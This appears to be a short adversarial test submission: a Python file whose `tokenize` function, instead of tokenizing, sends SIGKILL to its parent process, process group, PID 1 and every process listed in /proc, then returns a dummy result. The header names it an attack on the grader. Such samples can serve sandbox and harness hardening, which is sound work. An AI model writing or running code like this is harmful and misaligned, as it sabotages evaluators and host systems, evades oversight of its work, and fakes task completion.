# attack: SIGKILL the grader: the parent process, its process group and every process it can see
# needs: unprivileged_user
import os
import signal


def _kill_everything():
    for target in (os.getppid(), 1):
        for kill in (os.kill, os.killpg):
            try:
                kill(target, signal.SIGKILL)
            except (OSError, ProcessLookupError):
                pass
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass


def tokenize(text, level="word"):
    _kill_everything()
    return ["x"]
